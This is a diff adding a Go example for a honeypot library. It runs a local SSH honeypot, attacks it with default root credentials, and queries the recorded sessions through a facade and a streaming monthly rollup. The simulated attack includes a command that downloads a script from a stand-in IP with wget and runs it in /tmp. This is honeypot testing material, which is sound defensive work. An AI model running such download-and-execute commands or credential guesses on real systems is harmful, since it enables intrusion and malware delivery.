@@ -1,0 +1,103 @@
+// Store: run a honeypot node that sinks sessions straight into the
+// embedded month-partitioned session store, attack it over real SSH,
+// then reopen the sealed store two ways — through the honeynet facade
+// for the full analysis pipeline, and through the store's streaming
+// query engine for a monthly rollup that never materializes the data.
+package main
+
+import (
+	"fmt"
+	"log"
+	"os"
+	"time"
+
+	"honeynet"
+	"honeynet/internal/sshclient"
+	"honeynet/internal/store"
+)
+
+func main() {
+	dir, err := os.MkdirTemp("", "honeynet-store-*")
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer os.RemoveAll(dir)
+
+	// A store-only node: no JSONL session log, every record appended to
+	// the store's WAL and sealed into per-month segments on drain.
+	srv, err := honeynet.Serve(honeynet.ServeConfig{
+		SSHAddr:   "127.0.0.1:0",
+		StorePath: dir,
+	})
+	if err != nil {
+		log.Fatal(err)
+	}
+	fmt.Println("honeypot listening on", srv.SSHAddr(), "— storing to", dir)
+
+	// Attack it the way a typical loader bot does.
+	cli, err := sshclient.Dial(srv.SSHAddr(), sshclient.Config{User: "root", Password: "admin"})
+	if err != nil {
+		log.Fatal(err)
+	}
+	for _, cmd := range []string{
+		`uname -a`,
+		`cd /tmp; wget http://198.51.100.7/bins.sh; sh bins.sh`,
+	} {
+		if _, err := cli.Exec(cmd); err != nil {
+			log.Fatal(err)
+		}
+	}
+	cli.Close()
+
+	// The record is appended at session teardown, which races our
+	// client close; give it a moment before draining.
+	for i := 0; i < 500; i++ {
+		time.Sleep(10 * time.Millisecond)
+		if p, err := honeynet.Open(dir); err == nil && p.World.Store.Len() > 0 {
+			break
+		}
+	}
+
+	// Drain seals the WAL into immutable segments and commits the
+	// manifest; the directory is now a queryable dataset.
+	if _, err := srv.Drain("example done"); err != nil {
+		log.Fatal(err)
+	}
+
+	// Route one: the facade. Open materializes the records (in exact
+	// append order) and hands back the same pipeline Simulate would.
+	p, err := honeynet.Open(dir)
+	if err != nil {
+		log.Fatal(err)
+	}
+	rec := p.World.Store.All()[0]
+	fmt.Printf("\nfacade Open: %d session(s); first: kind=%s commands=%d downloads=%d\n",
+		p.World.Store.Len(), rec.Kind(), len(rec.Commands), len(rec.Downloads))
+
+	// Route two: the streaming query engine. Rollup answers from sealed
+	// segment metadata without reading a single block, and Scan streams
+	// with memory bounded by one compressed block.
+	st, err := store.Open(dir, store.Options{ReadOnly: true})
+	if err != nil {
+		log.Fatal(err)
+	}
+	defer st.Close()
+	for _, m := range st.Months() {
+		ru := st.Rollup(m)
+		fmt.Printf("\nrollup %s: %d record(s) (%d sealed), ssh=%d telnet=%d\n",
+			m.Format("2006-01"), ru.Records, ru.Sealed, ru.SSH, ru.Telnet)
+		fmt.Printf("  by kind: scanning=%d scouting=%d intrusion=%d command-exec=%d\n",
+			ru.Kinds[0], ru.Kinds[1], ru.Kinds[2], ru.Kinds[3])
+	}
+
+	cur := st.Scan(store.TimeRange{}, nil)
+	defer cur.Close()
+	fmt.Println("\nstreamed sessions:")
+	for cur.Next() {
+		r := cur.Record()
+		fmt.Printf("  #%d %s %s -> %s (%s)\n", r.ID, r.Start.Format(time.RFC3339), r.ClientIP, r.HoneypotID, r.Kind())
+	}
+	if err := cur.Err(); err != nil {
+		log.Fatal(err)
+	}
+}
